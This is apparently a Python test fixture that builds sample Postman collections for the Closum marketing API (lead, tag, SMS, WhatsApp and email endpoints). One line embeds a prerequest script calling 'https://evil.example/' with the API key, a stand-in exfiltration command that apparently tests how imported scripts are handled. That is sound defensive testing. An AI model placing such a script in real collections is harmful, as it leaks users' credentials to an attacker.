"""Postman collections as a user of Closum would export them, of accounts that are made (made_account.py)."""

from __future__ import annotations

import json
from typing import Any

from tests.support.made_account import SECRET, Dialect

Json = dict[str, Any]
V2_1 = "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"
V2_0 = "https://schema.getpostman.com/json/collection/v2.0.0/collection.json"
PERSON = "maria.silva@private.example"
TITLES = {
    "list": ("Leads", "List Leads"),
    "add": ("Leads", "Add Lead"),
    "view": ("Leads", "View Lead"),
    "update": ("Leads", "Update Lead"),
    "edit_by_email": ("Leads", "Edit Lead by Email"),
    "delete": ("Leads", "Delete Lead"),
    "remove": ("Contacts", "Remove Contact"),
    "add_tag": ("Contact Tags", "Add Tag to Contact"),
    "add_tag_by_email": ("Contact Tags", "Add Tag by Email to Contact"),
    "remove_tag": ("Contact Tags", "Remove Tag from Contact"),
    "remove_tag_by_email": ("Contact Tags", "Remove Tag by Email from Contact"),
    "tag": ("Tags", "Create Tag"),
    "balance": ("SMS Balance", "Get SMS Balance"),
    "sms": ("SMS", "Send One-Time SMS"),
    "whatsapp": ("WhatsApp", "Send WhatsApp Template"),
    "email": ("Email Templates", "Send Email Template"),
}
LEAD: Json = {
    "name": "Maria Silva",
    "email": PERSON,
    "mobile_number": "351912345678",
    "consent_email": True,
    "consent_sms": False,
    "tags": ["a", "b"],
}
SENT: dict[str, Json] = {
    "add": {**LEAD, "update_enabled": True},
    "update": {"lead_id": "1", **LEAD},
    "edit_by_email": LEAD,
    "delete": {"lead_id": "1"},
    "remove": {"contact_id": "1"},
    "add_tag": {"contact_id": "1", "tag": "a"},
    "add_tag_by_email": {"email": PERSON, "tag": "a"},
    "remove_tag": {"contact_id": "1", "tag": "a"},
    "remove_tag_by_email": {"email": PERSON, "tag": "a"},
    "tag": {"name": "a"},
    "sms": {"recipient": "351912345678", "message": "hi", "sender": "Loja", "send_time": "2026-05-31T14:30:00Z"},
    "whatsapp": {"to": "351912345678", "template": "t", "language": "pt_PT", "parameters": ["x"]},
    "email": {"to": PERSON, "template": "t", "variables": {"x": "y"}},
}
ANSWERED: dict[str, tuple[str, Any]] = {
    "balance": ("credits", 420),
    "tag": ("tag_id", "7"),
    "sms": ("sms_id", "s-1"),
    "whatsapp": ("message_id", "w-1"),
    "email": ("email_id", "e-1"),
}
USUAL = {"credits": "balance"}


def published(dialect: Dialect, webhooks: list[tuple[str, Any]]) -> Json:
    """The same as Postman's documenter hands out: schema v2.0, the noun first, no variables, all of it said twice."""
    made = made_collection(dialect, schema=V2_0, webhooks=webhooks)
    text = json.dumps(made["item"]).replace("{{base}}", "https://api.closum.com/v2")
    items = json.loads(text)
    for folder in items:
        for item in folder["item"]:
            if "item" in item:
                continue
            verb, _, rest = item["name"].partition(" ")
            item["name"] = f"{rest} {verb}"
            _as_published(item["request"], dialect)
    info = {**made["info"], "toc": [], "owner": "3943255", "publishedId": "Uz5CNduc", "public": True}
    return {"info": info, "item": items}


def _as_published(request: Json, dialect: Dialect) -> None:
    where, name = dialect.key
    raw = request["url"] if isinstance(request["url"], str) else request["url"]["raw"]
    if where == "query":
        raw += f"{'&' if '?' in raw else '?'}{name}={{{{api_key}}}}"
    elif name == "Authorization":
        request["auth"] = _auth(dialect, V2_0) | {"isInherited": True}
    else:
        request["header"] = [{"key": name, "value": "{{api_key}}"}]
    path, _, query = raw.removeprefix("https://").partition("?")
    request["url"] = raw
    pairs = [dict(zip(("key", "value"), part.split("=", 1), strict=True)) for part in query.split("&") if part]
    request["urlObject"] = {"protocol": "https", "path": path.split("/")[1:], "query": pairs, "variable": []}


def made_collection(dialect: Dialect, *, schema: str = V2_1, webhooks: list[tuple[str, Any]] | None = None) -> Json:
    """The collection of an account: folders, a base in a variable, the key in its auth, an answer saved with each."""
    folders: dict[str, list[Json]] = {}
    for op, (folder, title) in TITLES.items():
        if op in dialect.ways:
            folders.setdefault(folder, []).append(_item(dialect, op, title, schema))
    items = [{"name": name, "item": listed} for name, listed in folders.items()]
    if webhooks:
        told = [_payload(name, body) for name, body in webhooks]
        items.append({"name": "Webhooks", "item": [{"name": "Payload reference", "item": told}]})
    return {
        "info": {"name": "CLOSUM V2.0", "schema": schema, "_postman_id": "x"},
        "item": items,
        "auth": _auth(dialect, schema),
        "variable": [{"key": "base", "value": "https://api.closum.com/v2"}, {"key": "token", "value": SECRET}],
        "event": [{"listen": "prerequest", "script": {"exec": ["pm.sendRequest('https://evil.example/' + pm.key)"]}}],
    }


def _auth(dialect: Dialect, schema: str) -> Json:
    where, name = dialect.key
    if name == "Authorization":
        told: Any = {"token": SECRET} if schema == V2_0 else [{"key": "token", "value": SECRET, "type": "string"}]
        return {"type": "bearer", "bearer": told}
    pairs = {"key": name, "value": SECRET, "in": where}
    listed = [{"key": key, "value": value} for key, value in pairs.items()]
    return {"type": "apikey", "apikey": pairs if schema == V2_0 else listed}


def _item(dialect: Dialect, op: str, title: str, schema: str) -> Json:
    method, path = dialect.ways[op]
    holes = {part.strip("{}") for part in path.split("/") if part.startswith("{")}
    raw = "{{base}}/" + path.replace("{", "{{").replace("}", "}}")
    sent = {name: value for name, value in SENT.get(op, {}).items() if name not in holes}
    fields = {dialect.names.get(name, name): _formed(dialect, name, value) for name, value in sent.items()}
    request: Json = {"method": method, "url": raw if schema == V2_0 else {"raw": raw}, "header": []}
    if op == "view" and not holes:
        request["url"] = {"raw": f"{raw}?lead_id=1", "query": [{"key": "lead_id", "value": "1"}]}
    if fields:
        request["body"] = {"mode": "raw", "raw": json.dumps(fields), "options": {"raw": {"language": "json"}}}
    name, value = ANSWERED.get(op, ("lead_id", "5001"))
    shown = {dialect.kept.get(name, USUAL.get(name, name)): value}
    if op == "view":
        shown |= {dialect.kept.get(key, key): item for key, item in LEAD.items()}
    answer = {"name": "ok", "code": 200, "body": json.dumps(dialect.done([shown], op))}
    return {"name": title, "request": request, "response": [answer]}


def _formed(dialect: Dialect, name: str, value: Any) -> Any:
    if isinstance(value, bool):
        return int(value) if dialect.truth == "number" and name.startswith("consent") else value
    if name == "tags":
        kinds = {"joined": ",".join(value), "map": {str(number): tag for number, tag in enumerate(value)}}
        return kinds.get(dialect.tags, value)
    return value


def _payload(name: str, body: Any) -> Json:
    """A webhook as it is documented: a request to whoever listens, with its body."""
    raw = {"mode": "raw", "raw": json.dumps(body)}
    return {"name": name, "request": {"method": "POST", "url": "https://your.server/hook", "body": raw}, "response": []}
